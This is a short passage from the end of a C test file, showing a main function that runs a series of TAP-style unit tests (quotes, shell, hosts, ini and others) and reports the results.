}

int main(void)
{
    test_quotes();
    test_spaces();
    test_arguments();
    test_shell();
    test_hosts();
    test_names();
    test_places();
    test_nothing();
    test_lists();
    test_noise();
    test_ini();
    return tap_done();
}
